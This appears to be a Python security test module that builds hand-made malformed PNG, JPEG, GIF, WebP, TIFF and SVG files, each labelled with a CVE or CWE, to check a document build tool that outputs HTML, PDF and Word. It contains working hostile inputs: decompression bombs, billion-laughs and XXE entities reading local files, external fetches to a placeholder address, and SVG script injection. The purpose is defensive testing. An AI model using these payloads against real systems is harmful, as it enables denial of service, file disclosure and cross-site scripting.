"""Pictures of a kit, each a few bytes made by hand after an advisory, built into page, PDF and Word file."""

from __future__ import annotations

import gzip
import io
import struct
import zlib
from collections.abc import Callable, Sequence

from PIL import Image

from tests.attacks.attack import ANY, FOUND, Attack, Place

__all__ = ["ATTACKS", "chunk", "gif", "jpeg", "other", "png", "scans", "webp"]

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40">{}</svg>'
_TEXT = '---\ntitle: A bridge opens\n---\nThe bridge is open. {{#lede}}\n\n![The bridge]({name} "A caption.") {{#fig}}\n'


def chunk(kind: bytes, data: bytes, length: int | None = None) -> bytes:
    """Return a chunk of a PNG; ``length`` is what it says of itself."""
    size = len(data) if length is None else length
    return struct.pack(">I", size) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, *more: bytes, depth: int = 8, colour: int = 2, data: bytes | None = None) -> bytes:
    """Return a PNG with further chunks before its pixels."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    pixels = zlib.compress(b"\0" * (2 * 20) if data is None else data)
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg(**options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(out, "JPEG", **options)
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (16, 16), 3).save(out, "GIF")
    return out.getvalue()


def webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(out, "WEBP")
    return out.getvalue()


def other(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(out, kind)
    return out.getvalue()


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _in_jpeg(*segments: bytes) -> bytes:
    return b"\xff\xd8" + b"".join(segments) + jpeg()[2:]


def _sized(width: int, height: int) -> bytes:
    """Return a JPEG that says that it is so large."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def scans(count: int, side: int = 8000) -> bytes:
    """Return a progressive JPEG (ISO/IEC 10918-1, annex G) of little more than 100 kB with so many scans over all its blocks."""
    blocks = (side // 8) ** 2
    frame = _segment(0xDB, b"\0" + b"\1" * 64) + _segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0")
    codes = (_segment(0xC4, kind + b"\1" + bytes(15) + symbol) for kind, symbol in ((b"\0", b"\0"), (b"\x10", b"\xe0")))
    first = _segment(0xDA, b"\1\1\0\0\0\0") + bytes(blocks // 8 + 1)
    runs = ("0" + "1" * 14) * -(-blocks // 32767)  # each ends the blocks of 32767 at once
    runs += "1" * (-len(runs) % 8)
    packed = int(runs, 2).to_bytes(len(runs) // 8, "big").replace(b"\xff", b"\xff\0")
    further = _segment(0xDA, b"\1\1\0\1\x3f\0") + packed
    return b"\xff\xd8" + frame + b"".join(codes) + first + further * count + b"\xff\xd9"


def _exif(offset: int, entries: int = 1) -> bytes:
    """Return Exif whose first directory goes on at ``offset``."""
    head = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", entries)
    entry = struct.pack("<HHII", 0x0112, 3, 1, 6) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    return b"Exif\0\0" + head + entry + struct.pack("<I", offset)


def _bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def _large_gif() -> bytes:
    data = bytearray(gif())
    data[6:10] = b"\xff\xff\xff\xff"
    return bytes(data)


def _picture(  # noqa: PLR0913, PLR0917 -- the columns of a table
    name: str, advisory: str, file: str, data: Callable[[], bytes], codes: frozenset[int] = ANY, only: str = "html,docx"
) -> Attack:
    def make(place: Place) -> Sequence[object]:
        place.kit({file: data(), "statement.en.md": _TEXT.format(name=file)})
        return ("build", "kit", "-o", "out", "--only", only)

    return Attack(name, advisory, make, codes)


def _svg(  # noqa: PLR0913, PLR0917 -- the columns of a table
    name: str, advisory: str, inner: str, head: str = "", codes: frozenset[int] = ANY, only: str = "html,pdf"
) -> Attack:
    return _picture(name, advisory, "a.svg", (head + _SVG.format(inner)).encode, codes, only)


def _uses(levels: int, each: int) -> str:
    groups = [f'<g id="g{n}">' + f'<use xlink:href="#g{n - 1}"/>' * each + "</g>" for n in range(1, levels)]
    return '<g id="g0"><rect width="9" height="9"/></g>' + "".join(groups) + f'<use xlink:href="#g{levels - 1}"/>'


_LAUGHS = '<!DOCTYPE svg [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"

_PNG = (
    _picture("a picture larger than a town", "CVE-2014-9601", "a.png", lambda: png(60_000, 60_000)),
    _picture("a picture of four thousand million columns", "CVE-2014-9601", "a.png", lambda: png(2**32 - 1, 2**32 - 1), FOUND),
    _picture("a text that unpacks without end", "CVE-2014-9601", "a.png", lambda: png(2, 2, chunk(b"zTXt", b"a\0\0" + _bomb(200)))),
    _picture("a profile that unpacks without end", "CVE-2014-9601", "a.png", lambda: png(2, 2, chunk(b"iCCP", b"a\0\0" + _bomb(200)))),
    _picture("pixels that unpack without end", "CVE-2014-9601", "a.png", lambda: png(2, 2).replace(zlib.compress(b"\0" * 40), _bomb(200))),
    _picture("a chunk longer than its file", "CWE-130", "a.png", lambda: png(2, 2, chunk(b"tEXt", b"a\0b", 2**31 - 1)), FOUND),
    _picture("a picture of no height", "CWE-1284", "a.png", lambda: png(2, 0)),
    _picture("a picture of sixteen bits", "CWE-755", "a.png", lambda: png(2, 2, depth=16), ANY, "html,print"),
    _picture("a picture that ends at once", "CWE-755", "a.png", lambda: png()[:40]),
    _picture("a colour type that is none", "CWE-20", "a.png", lambda: png(2, 2, colour=5)),
    _picture("a palette that is none", "CWE-125", "a.png", lambda: png(2, 2, chunk(b"PLTE", b"\0"), colour=3)),
    _picture("ten thousand chunks", "CWE-770", "a.png", lambda: png(2, 2, *[chunk(b"tEXt", b"a\0b")] * 10_000)),
    _picture("a moving picture of many frames", "CWE-770", "a.png", lambda: png(2, 2, chunk(b"acTL", struct.pack(">II", 2**31, 0)))),
)
_JPEG = (
    _picture("a photograph larger than a town", "GHSA-5x8w-8jj5-q52h", "a.jpg", lambda: _sized(65535, 65535)),
    _picture("a photograph of no width", "CWE-1284", "a.jpg", lambda: _sized(0, 16)),
    _picture("exif that goes on in itself", "CVE-2026-96643", "a.jpg", lambda: _in_jpeg(_segment(0xE1, _exif(8)))),
    _picture("exif of many entries", "CVE-2026-96643", "a.jpg", lambda: _in_jpeg(_segment(0xE1, _exif(0, 65535)))),
    _picture("a segment longer than its file", "CWE-130", "a.jpg", lambda: b"\xff\xd8\xff\xe1\xff\xffExif\0\0", FOUND),
    _picture("a segment of no length", "CWE-130", "a.jpg", lambda: b"\xff\xd8\xff\xe1\0\0" + jpeg()[2:], FOUND),
    _picture("markers without end", "CWE-835", "a.jpg", lambda: b"\xff\xd8" + b"\xff" * 500_000),
    _picture("comments without end", "CWE-407", "a.jpg", lambda: _in_jpeg(*[_segment(0xFE, b"a" * 9)] * 20_000)),
    _picture("profiles that each are the first", "CWE-20", "a.jpg", lambda: _in_jpeg(*[_segment(0xE2, b"ICC_PROFILE\0\1\1" + b"x" * 200)] * 300)),
    _picture("a photograph in inks without a profile", "CVE-2024-28219", "a.jpg", lambda: other_mode("CMYK")),
    _picture("a photograph of ten thousand scans", "CWE-400", "a.jpg", lambda: scans(10_000), FOUND),
    _picture("a photograph that is cut off", "CWE-755", "a.jpg", lambda: jpeg()[: len(jpeg()) // 2], ANY, "html,pdf"),
)


def other_mode(mode: str) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (16, 16)).save(out, "JPEG")
    return out.getvalue()


def _moving(kind: str) -> bytes:
    """Return a moving picture whose frames have other kinds of colour, and other sizes than it says."""
    frames = [Image.new("L", (9, 9), 99), Image.new("RGB", (9, 9), (9, 99, 200)), Image.new("RGBA", (9, 9), (9, 9, 9, 9)), Image.new("1", (9, 9))]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=9, disposal=2) if kind == "GIF" else frames[0].save(
        out, kind, save_all=True, append_images=frames[1:], duration=9
    )
    return out.getvalue()


def _fits() -> bytes:
    cards = ("SIMPLE  = T", "XTENSION= 'BINTABLE'", "BITPIX  = 8", "NAXIS   = 2", "NAXIS1  = 90000", "NAXIS2  = 90000", "ZCMPTYPE= 'GZIP_1'", "END")
    return "".join(card.ljust(80) for card in cards).ljust(2880).encode() + gzip.compress(bytes(10_000_000))


_PSD = b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 2**31 - 1, 2**31 - 1, 8, 3) + bytes(100)
_EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%BeginBinary: -9\n(@SECRET@) run\nshowpage\n"
_TIFF = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 2) + struct.pack("<HHII", 256, 4, 1, 2**31) + struct.pack("<HHII", 257, 4, 1, 2**31) + struct.pack("<I", 8)
_LAYERS = b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 9, 9, 8, 3) + bytes(8) + struct.pack(">IIh", 200, 190, 1) + struct.pack(">iiii", 2**31 - 9, 2**31 - 9, -9, -9) + bytes(170)
_AREA = struct.pack(">64i", 0, 4, *[2**30] * 12, 1, 16, *[0] * 48)
_WMF = b"\xd7\xcd\xc6\x9a" + bytes(100)

_OTHERS = (
    _picture("a moving picture larger than a town", "CVE-2022-45198", "a.gif", _large_gif),
    _picture("blocks of a moving picture without end", "CWE-407", "a.gif", lambda: gif()[:-1] + b"\x21\xfe\x01a" * 50_000),
    _picture("a moving picture that is cut off", "CWE-755", "a.gif", lambda: gif()[:20], FOUND),
    _picture("codes of a web picture out of order", "CVE-2023-4863", "a.webp", lambda: webp()[:30] + b"\xff" * 300),
    _picture("a web picture longer than its file", "CVE-2023-4863", "a.webp", lambda: b"RIFF\xff\xff\xff\xffWEBP" + webp()[12:]),
    _picture("a web picture of sixteen thousand columns", "CVE-2023-4863", "a.webp", lambda: webp()[:26] + b"\xff\x3f\xff\x3f" + webp()[30:]),
    _picture("a tiff", "CVE-2021-25289", "a.tif", lambda: other("TIFF"), FOUND),
    _picture("a tiff that goes on in itself", "CVE-2021-25291", "a.tif", lambda: _TIFF, FOUND),
    _picture("a tiff called png", "GHSA-462x-pgg6-55fp", "a.png", lambda: _TIFF, FOUND),
    _picture("a program called jpeg", "CVE-2026-59203", "a.jpg", lambda: _EPS, FOUND),
    _picture("layers called png", "CVE-2026-25990", "a.png", lambda: _PSD, FOUND),
    _picture("stars called png", "CVE-2026-40192", "a.png", _fits, FOUND),
    _picture("tiles called jpeg", "CVE-2026-59204", "a.jpg", lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200), FOUND),
    _picture("layers that end beyond all numbers, called png", "CVE-2026-42311", "a.png", lambda: _LAYERS, FOUND),
    _picture("a view from above called png", "CVE-2026-54058", "a.png", lambda: _AREA, FOUND),
    _picture("letters of dots called png", "CVE-2026-55379", "a.png", lambda: b"STARTFONT 2.1\nFONT a\nSIZE 9 9 9\nFONTBOUNDINGBOX 99999 99999 0 0\nSTARTCHAR a\nENCODING 1\nBBX 99999 99999 0 0\nBITMAP\n", FOUND),
    _picture("letters of an older screen called jpeg", "CVE-2026-54059", "a.jpg", lambda: b"\1fcp" + struct.pack("<I", 2**31) + bytes(200), FOUND),
    _picture("a picture of another library called gif", "CVE-2026-55380", "a.gif", lambda: b"\xff\xfe" + struct.pack(">HHB", 65535, 65535, 1) + bytes(900), FOUND),
    _picture("a moving picture that changes its colours", "CVE-2026-96639", "a.gif", lambda: _moving("GIF")),
    _picture("a moving web picture that changes its colours", "CVE-2026-96639", "a.webp", lambda: _moving("WEBP")),
    _picture("a moving png that changes its colours", "CVE-2026-96639", "a.png", lambda: _moving("PNG")),
    _picture("a drawing of windows called png", "CVE-2026-96644", "a.png", lambda: _WMF, FOUND),
    _picture("runs of colour called png", "CVE-2021-25293", "a.png", lambda: b"\x01\xda\x01\x01" + bytes(600), FOUND),
    _picture("a page called png", "CVE-2026-59200", "a.png", lambda: b"%PDF-1.4\n" + bytes(100), FOUND),
    _picture("nothing called png", "CWE-755", "a.png", lambda: b"", FOUND),
    _picture("a web page called png", "CVE-2026-21483", "a.png", lambda: b"<html><script>alert(1)</script>", FOUND),
)
_SVGS = (
    _svg("an entity of the machine", "CVE-2021-29421", "<text y='9'>&e;</text>", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file://@SECRET@">]>', FOUND),
    _svg("an entity of the network", "CVE-2014-0191", "", '<!DOCTYPE svg [<!ENTITY % e SYSTEM "http://@ADDRESS@/a.dtd"> %e;]>', FOUND),
    _svg("entities of entities", "CVE-2003-1564", "<text y='9'>&a11;</text>", _LAUGHS, FOUND),
    _svg("groups that use groups", "CVE-2026-31899", _uses(12, 10), "", FOUND),
    _svg("groups that use groups, but not too often", "CVE-2026-31899", _uses(5, 7)),
    _svg("groups that use themselves", "CVE-2026-132275", '<g id="a"><use xlink:href="#a"/><use xlink:href="#a"/></g>'),
    _svg("patterns of patterns", "CVE-2026-31899", '<pattern id="p" width="1" height="1"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="9" height="9" fill="url(#p)"/>'),
    _svg("masks of masks", "CVE-2026-31899", '<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="9" height="9" mask="url(#m)"/>'),
    _svg("a picture of the machine in a drawing", "CVE-2023-27586", '<image xlink:href="file://@SECRET@" width="9" height="9"/>', "", FOUND),
    _svg("a picture of the network in a drawing", "CVE-2023-27586", '<image href="http://@ADDRESS@/a.png" width="9" height="9"/>', "", FOUND),
    _svg("a use of the machine in a drawing", "CVE-2023-27586", '<use href="file://@SECRET@#a"/>', "", FOUND),
    _svg("a script in a drawing", "CVE-2026-105644", "<script>alert(1)</script>", "", FOUND),
    _svg("a script in an attribute", "CVE-2026-105644", '<rect width="9" height="9" onload="alert(1)"/>', "", FOUND),
    _svg("a script in a link of a drawing", "CVE-2025-65267", '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>', "", FOUND),
    _svg("a page in a drawing", "CWE-79", '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="file://@SECRET@"/></body></foreignObject>', "", FOUND),
    _svg("styles of the network in a drawing", "CVE-2023-27586", "<style>@import url(http://@ADDRESS@/a.css); rect { fill: url(http://@ADDRESS@/) }</style><rect width='9' height='9'/>", "", FOUND),
    _svg("a style sheet of the network", "CVE-2023-27586", "", '<?xml-stylesheet href="http://@ADDRESS@/a.css"?>'),
    _svg("an inclusion of the machine", "CWE-611", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://@SECRET@" parse="text"/>'),
    _svg("a move that changes an address", "CVE-2026-105644", '<a id="a"><set attributeName="href" to="javascript:alert(1)"/><rect width="9" height="9"/></a>', "", FOUND),
    _svg("a catalogue of the network", "CVE-2026-0990", "", '<?oasis-xml-catalog catalog="http://@ADDRESS@/c.xml"?>'),
    _svg("titles without end", "CWE-407", "<title/>words " * 90_000, "", ANY, "html"),
    _svg("parts that are not drawn, without end", "CWE-407", "<g display='none'/>words " * 90_000, "", ANY, "html"),
    _svg("attributes without end", "CWE-407", "<g " + " ".join(f"b{n}=''" for n in range(40_000)) + "/>", "", FOUND, "html"),
    _svg("parts without end", "CWE-770", "<g/>" * 3_000_000, "", FOUND, "html"),
    _svg("numbers that go back and forth", "CVE-2021-21236", f'<path d="M{"1" * 9_000}e"/><rect transform="{"a(" * 3_000}"/>'),
    _svg("groups in groups", "CWE-674", "<g>" * 3_000 + "</g>" * 3_000),
    _svg("a drawing larger than a town", "CWE-770", '<svg width="1e9" height="1e9" viewBox="0 0 1e-9 1e-9"><rect width="9" height="9"/></svg>'),
    _svg("a path of many points", "CWE-407", f'<path d="M0 0{" L1 1 0 0" * 20_000}"/>', "", ANY, "html"),
    _picture("a packed drawing", "CWE-409", "a.svg", lambda: gzip.compress(_SVG.format("").encode())),
    _picture("a drawing in another encoding", "CWE-173", "a.svg", lambda: f'<?xml version="1.0" encoding="utf-16"?>{_SVG.format("<script/>")}'.encode("utf-16"), ANY, "html"),
    _picture("a drawing in seven bits", "CWE-173", "a.svg", lambda: b'<?xml version="1.0" encoding="utf-7"?>' + _SVG.format("+ADw-script+AD4-").encode(), ANY, "html"),
)
ATTACKS = (*_PNG, *_JPEG, *_OTHERS, *_SVGS)
